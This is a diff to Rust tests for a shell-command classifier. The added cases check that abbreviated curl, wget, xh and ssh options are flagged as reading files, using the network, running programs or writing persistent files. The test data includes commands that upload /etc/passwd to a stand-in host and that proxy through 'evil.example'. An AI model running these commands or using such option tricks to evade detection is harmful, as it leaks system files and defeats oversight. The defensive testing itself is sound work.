@@ -475,13 +475,40 @@ fn files_that_a_web_client_sends_are_seen() {
         ("curl --upload-f /etc/passwd https://h.example", "/etc/passwd"),
         ("wget --post-fi=/etc/passwd https://h.example", "/etc/passwd"),
         ("env curl -sKf https://h.example", "f"),
+        ("curl --alt-svc f https://h.example", "f"),
+        ("wget --load-cookies=f https://h.example", "f"),
+        ("wget --private-k f https://h.example", "f"),
     ] {
         let line = CommandLine::parse(command).unwrap();
         let found = classify(&line, &Surroundings { cwd: Some("/w".to_owned()), ..Surroundings::default() });
         let is_meant = |path: &String| path == file || path.ends_with(&format!("/{file}"));
         assert!(found.effects.reads.iter().any(is_meant), "{command}: {:?}", found.effects.reads);
     }
-    let line = CommandLine::parse("curl -sxevil.example https://good.example").unwrap();
-    let found = classify(&line, &Surroundings::default());
-    assert!(found.effects.network.iter().any(|used| used.host.is_none()), "{:?}", found.effects.network);
+    let found = |command: &str| classify(&CommandLine::parse(command).unwrap(), &Surroundings::default());
+    for command in [
+        "curl -sxevil.example https://good.example",
+        "curl --alt-svc f https://good.example",
+        "xh --resolve good.example:1.2.3.4 https://good.example",
+        "https --prox=https:http://evil.example good.example",
+    ] {
+        let network = found(command).effects.network;
+        assert!(network.iter().any(|used| used.host.is_none()), "{command}: {network:?}");
+    }
+}
+
+/// A batch of commands may start programs, and a log is written.
+#[test]
+fn options_of_clients_that_run_or_write_are_seen() {
+    let found = |command: &str| classify(&CommandLine::parse(command).unwrap(), &Surroundings::default()).effects;
+    for command in ["sftp -b batch h.example", "sftp -bbatch h.example"] {
+        assert!(found(command).runs.iter().any(|path| path.ends_with("batch")), "{command}: {:?}", found(command).runs);
+    }
+    for command in ["ssh -E .envrc h.example", "ssh -E.envrc h.example true"] {
+        let effects = found(command);
+        let names = |list: &[String]| list.iter().any(|path| path.ends_with("envrc"));
+        assert!(
+            names(&effects.writes) && names(&effects.persistence) && !names(&effects.reads),
+            "{command}: {effects:?}"
+        );
+    }
 }
